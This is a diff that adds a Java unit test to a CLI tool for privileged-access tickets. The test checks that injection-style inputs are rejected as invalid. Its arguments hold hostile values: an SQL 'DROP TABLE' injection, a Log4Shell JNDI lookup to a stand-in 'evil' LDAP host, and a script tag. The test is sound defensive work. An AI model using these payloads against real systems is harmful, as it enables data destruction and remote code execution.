@@ -69,6 +69,16 @@ class PimctlUsageTest {
     }
 
     @Test
+    void whatTheOrchestratorWouldDeadLetterIsRefusedBeforeKafka() {
+        // the contract's identifier rules (no quotes, no angle brackets), not only pimctl's own checks
+        assertUsageError(CliRun.run("ticket", "request", "--ticket", "INC-1'; DROP TABLE activation; --", "--principal", PRINCIPAL,
+                "--role", PRINCIPAL, "--duration", "PT1H", "--justification", "x", NO_KAFKA), "'--ticket'", "invalid format");
+        assertUsageError(CliRun.run("ticket", "request", "--ticket", "INC-1", "--principal", PRINCIPAL, "--role", PRINCIPAL,
+                "--duration", "PT1H", "--justification", "see ${jndi:ldap://evil/x}", NO_KAFKA), "'--justification'", "invalid format");
+        assertUsageError(CliRun.run("ticket", "close", "--ticket", "<script>", NO_KAFKA), "'--ticket'", "invalid format");
+    }
+
+    @Test
     void unknownOptionIsAUsageErrorWithASuggestion() {
         CliRun run = CliRun.run("ticket", "close", "--ticket", "INC-1", "--resolutoin", "done");
         assertUsageError(run, "--resolutoin", "did you mean", "--resolution");
